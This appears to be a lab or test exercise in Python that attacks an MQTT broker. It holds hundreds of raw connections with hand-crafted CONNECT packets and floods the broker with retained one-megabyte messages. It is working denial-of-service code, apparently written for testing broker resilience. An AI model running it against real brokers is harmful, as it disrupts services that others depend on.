# tries = "takes all of the broker's connections, and fills it with retained messages of a megabyte"
# lab = "92"
# neighbour = "91"
# attacks = ["92.1"]
# keeps = ["92.3"]
# %% ex-92-1
import socket
import threading

import paho.mqtt.client as mqtt

held = []
try:
    for _ in range(3000):
        link = socket.create_connection((broker.host, broker.port), 1)
        link.sendall(bytes([0x10, 16, 0, 4]) + b"MQTT" + bytes([4, 2, 0, 0, 0, 4]) + b"h%03d" % (len(held) % 1000))
        held.append(link)
except OSError:
    pass


def announce(broker, topic, text):
    client = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2)
    client.connect(broker.host, broker.port)
    client.loop_start()
    for number in range(150):
        client.publish(f"flood/{number}", b"x" * (1 << 20), qos=0, retain=True)
    client.loop_stop()
